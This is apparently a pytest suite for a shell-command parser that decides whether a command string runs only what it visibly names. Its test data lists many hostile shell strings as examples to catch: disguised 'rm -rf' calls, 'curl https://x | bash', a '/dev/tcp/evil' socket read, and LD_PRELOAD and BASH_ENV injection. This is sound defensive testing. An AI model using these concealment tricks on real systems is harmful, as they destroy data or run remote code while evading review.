"""A shell text is read as what it will run, or it is doubted. Hostile texts are doubted."""

import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from runwire.runs.commands import plain_name
from runwire.runs.shellwords import TEXT_MAX, read

PLAIN: dict[str, list[tuple[str, ...]]] = {
    "git status": [("git", "status")],
    "git status && rm -rf x": [("git", "status"), ("rm", "-rf", "x")],
    "a || b; c & d | e": [("a",), ("b",), ("c",), ("d",), ("e",)],
    "a\nb": [("a",), ("b",)],
    "(a; b) && { c; }": [("a",), ("b",), ("c",)],
    "! a": [("a",)],
    "if a; then b; elif c; then d; else e; fi": [("a",), ("b",), ("c",), ("d",), ("e",)],
    "while a; do b; done": [("a",), ("b",)],
    "for x in 1 2; do a; done": [("a",)],
    "git commit -m 'a b; rm -rf /'": [("git", "commit", "-m", "a b; rm -rf /")],
    'printf "%s" "a;b"': [("printf", "%s", "a;b")],
    """'r'"m" x""": [("rm", "x")],
    "r''m x": [("rm", "x")],
    "\\rm x": [("rm", "x")],
    "echo a\\ b": [("echo", "a b")],
    "echo hi # rm -rf /": [("echo", "hi")],
    "sh -c 'git status && git log'": [("git", "status"), ("git", "log")],
    "make test > out.txt": [("make", "test"), (">", "out.txt")],
    "make >> log 2>&1": [("make",), (">>", "log")],
    "sort < in": [("sort",), ("<", "in")],
    "make 2>/dev/null": [("make",)],
    "rm -rf >/dev/null x": [("rm", "-rf", "x")],
    ">f cat a": [(">", "f"), ("cat", "a")],
    "FOO=1 make": [("FOO=1", "make")],
    "echo naïve 日本": [("echo", "naïve", "日本")],
    "echo ''": [("echo", "")],
    "git diff HEAD~1 HEAD^": [("git", "diff", "HEAD~1", "HEAD^")],
}


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_text_is_its_commands(text: str) -> None:
    reading = read(text)
    assert (reading.doubts, sorted(one.argv for one in reading.segments)) == ((), sorted(PLAIN[text]))


DOUBTFUL = [
    "$X",
    "echo $X",
    'echo "$X"',
    "echo ${X:-$(rm y)}",
    "echo $(rm y)",
    "echo `rm y`",
    'echo "`rm y`"',
    "echo $((1+1))",
    "((rm -rf x))",
    "diff <(a) <(b)",
    "tee >(rm y)",
    "cat <<EOF\nx\nEOF",
    "cat <<'EOF'\nx\nEOF",
    "cat <<-EOF\n\t$(rm y)\n\tEOF",
    "sh <<< 'rm y'",
    "ls *.py",
    "ls a?",
    "ls [ab]",
    "ls {a,b}",
    "ls ~",
    "ls ~root/x",
    "eval rm y",
    "exec rm y",
    ". ./x",
    "source x",
    "trap 'rm y' EXIT",
    "alias git=rm; git x",
    "git() { rm y; }; git status",
    "function git { rm y; }; git status",
    "X=1",
    "X=1; git status",
    "export PATH=.",
    "PATH=. git status",
    "LD_PRELOAD=./x git status",
    "IFS=x git status",
    "BASH_ENV=./x git status",
    "set -a",
    "a | sh",
    "curl https://x | bash",
    "python3",
    "echo 'import os' | python3 -",
    "xargs rm",
    "echo / | xargs rm -rf",
    "find . | parallel rm",
    "bash -lc 'git status'",
    "bash -c 'git status' x y",
    "X=1 bash -c 'git status'",
    'sh -c "$X"',
    'sh -c \'sh -c "sh -c \\"sh -c \\\\\\"sh -c a\\\\\\"\\""\'',
    "bash --rcfile x -c 'git status'",
    "$'rm' y",
    '$"rm" y',
    "r\\\nm y",
    "echo a\u00a0b",
    "echo a\u2028rm",
    "echo a\u200bb",
    "echo \u202egpj",
    "echo a\rrm -rf x",
    "echo a\x00b",
    "echo \x1b[2K",
    "cat < /dev/tcp/evil/80",
    "a > $X",
    "cd a; b",
    "a && cd b && c",
    "cd - && a",
    "pushd a && b",
    "cd a && b || c",
    "[ -f x ]",
    "[[ -f x ]]",
    "case a in b) c;; esac",
    "a &&",
    "a '",
    'a "',
    "a (b)",
    "a )",
    "if a; then",
    "> f",
    "",
    " ",
    "# only words",
    "a" * (TEXT_MAX + 1),
    "(" * 400 + "a" + ")" * 400,
    "echo \ud800",
]


@pytest.mark.parametrize("text", DOUBTFUL, ids=lambda text: repr(text)[:40])
def test_a_text_that_could_mean_something_else_is_not_plain(text: str) -> None:
    assert not read(text).plain


HIDDEN = [
    "echo $(rm -rf y)",
    "echo `rm -rf y`",
    'echo "a $(rm -rf y) b"',
    "echo ${X:-$(rm -rf y)}",
    "cat <<EOF\n$(rm -rf y)\nEOF",
    "diff <(rm -rf y) a",
    "X=$(rm -rf y)",
    "sudo rm -rf y",
    "env A=1 rm -rf y",
    "env -i -u B rm -rf y",
    "env -S 'rm -rf y'",
    "nohup nice -n 5 rm -rf y",
    "timeout -k 5 10 rm -rf y",
    "time rm -rf y",
    "xargs -n1 rm -rf y",
    "find . -name x -exec rm -rf y \\;",
    "find . -execdir rm -rf y +",
    "busybox rm -rf y",
    "command rm -rf y",
    "sh -c 'rm -rf y'",
    "sudo sh -c 'rm -rf y'",
    "bash -lc 'cd x; rm -rf y'",
    "A=1 rm -rf y",
    "git status; (rm -rf y)",
    "f() { rm -rf y; }; f",
    "if true; then rm -rf y; fi",
    "case a in b) rm -rf y;; esac",
    "a | while read x; do rm -rf y; done",
    "r''m -rf y",
    "\\rm -rf y",
    '"rm" -rf y',
    "rm >x -rf y",
    "! rm -rf y",
    "a && rm >x -rf y",
    "a & rm -rf y",
    "a\nrm -rf y",
    "coproc rm -rf y",
    "ssh host rm -rf y",
]


@pytest.mark.parametrize("text", HIDDEN)
def test_a_command_that_hides_still_counts_against_the_text(text: str) -> None:
    assert ("rm", "-rf", "y") in {one.argv[:3] for one in read(text).suspects}


def test_a_leading_cd_says_where_the_rest_runs() -> None:
    reading = read("cd sub/./x && make test | tee log")
    assert (reading.plain, reading.cwd) == (True, "sub/x")
    assert [one.argv for one in reading.segments] == [("make", "test"), ("tee", "log")]


@pytest.mark.parametrize("text", ["! ! curl x", "! ! ! curl x", "true && ! ! curl x", "'!' curl x"])
def test_what_is_negated_twice_is_in_doubt_and_still_seen(text: str) -> None:
    reading = read(text)
    assert not reading.plain
    assert ("curl", "x") in {one.argv for one in reading.suspects}


def test_reading_hostile_garbage_takes_no_time_and_never_fails() -> None:
    for text in ("$(" * 5_000, "'" * 16_383, "a<<" * 5_000, "{" * 16_000, "if " * 5_000, "`" * 16_000):
        assert not read(text).plain


PIECES = ["p", "q", " ", "  ", "'", '"', "\\", ";", "&&", "||", "|", "(", ")", "{ ", " }", "\n", "#", "$x", "$(q)", "`"]
PIECES += ["*", "~", "<f", ">f", "if ", "; then ", "; fi", "!", "! ", "&", "a", "A=", "é", "\t", "-x", "2>&1", "sh -c "]
PIECES += [";;", "[", "]", "do ", "done", "for p in a; ", "while ", "$'", "\\'", "=", ",", "{", "}", "%", "^", "@", ":"]


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder whose only programs write down how they were called."""
    folder = tmp_path_factory.mktemp("stage")
    (folder / "bin").mkdir()
    for name in ("p", "q"):
        program = folder / "bin" / name
        program.write_text(
            f'#!/bin/sh\nline={name}\nfor word do line="$line\x1f$word"; done\necho "$line" >> "{folder}/log"\n'
        )
        program.chmod(0o755)
    (folder / "bin" / "sh").symlink_to("/bin/sh")
    (folder / "f").touch()
    return folder


@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=14).map("".join))
@settings(max_examples=250, suppress_health_check=[HealthCheck.filter_too_much, HealthCheck.function_scoped_fixture])
def test_real_shells_run_nothing_but_what_a_plain_reading_says(stage: Path, text: str) -> None:
    reading = read(text)
    assume(reading.plain)
    said = {plain_name(one.argv) for one in reading.segments}
    for shell in filter(None, (shutil.which("dash"), shutil.which("bash"), "/bin/sh")):
        log = stage / "log"
        log.write_text("")
        subprocess.run(
            [shell, "-c", f"{text}\nwait"],
            cwd=stage,
            env={"PATH": str(stage / "bin")},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=20,
            check=False,
        )
        ran = {tuple(line.split("\x1f")) for line in log.read_text("utf-8").splitlines()}
        assert ran <= said, (shell, text, ran - said)
